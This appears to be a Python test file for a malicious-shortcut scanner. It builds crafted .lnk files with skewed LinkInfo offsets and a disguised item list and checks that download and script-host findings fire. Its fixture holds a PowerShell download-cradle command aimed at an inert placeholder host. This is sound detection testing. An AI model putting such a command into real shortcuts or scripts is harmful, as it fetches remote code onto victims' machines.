"""LinkInfo of shortcuts, where its strings lie about each other."""

import struct

from emotriage import scan
from emotriage.formats.lnk.link_info import read_link_info
from emotriage.model.blob import Blob
from emotriage.testing import shortcut

PROGRAM = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
ARGUMENTS = "-Command \"(New-Object Net.WebClient).DownloadString('http://files.invalid/emotriage-inert')\""


def with_suffix(place: int) -> tuple[bytes, int]:
    """A shortcut whose CommonPathSuffixOffset leads so far into the local path, and where its LinkInfo begins."""
    data = bytearray(shortcut(PROGRAM, ARGUMENTS, link_info=PROGRAM))
    at = data.index(PROGRAM.encode()) - 0x1C - 17
    (base,) = struct.unpack_from("<I", data, at + 0x10)
    struct.pack_into("<I", data, at + 0x18, base + place)
    return bytes(data), at


def test_a_path_whose_suffix_is_glued_to_it_is_read_both_ways():
    data, at = with_suffix(len(r"C:\Windows\System32") + 1)
    info, _, _ = read_link_info(Blob(data), at)
    assert info.path == PROGRAM + r"WindowsPowerShell\v1.0\powershell.exe"
    assert info.glued == PROGRAM
    plain, at = with_suffix(len(PROGRAM))
    info, _, _ = read_link_info(Blob(plain), at)
    assert (info.path, info.glued) == (PROGRAM, "")


def test_the_program_is_seen_where_its_list_of_items_names_another():
    data, _ = with_suffix(len(PROGRAM) - 3)
    spoiled = data.replace("powershell.exe".encode("utf-16-le"), "powershexl.exe".encode("utf-16-le"))
    assert spoiled != data
    found = {one.rule for one in scan(spoiled, name="Report.lnk", plugins=[]).findings}
    assert {"lnk.download", "lnk.script-host"} <= found
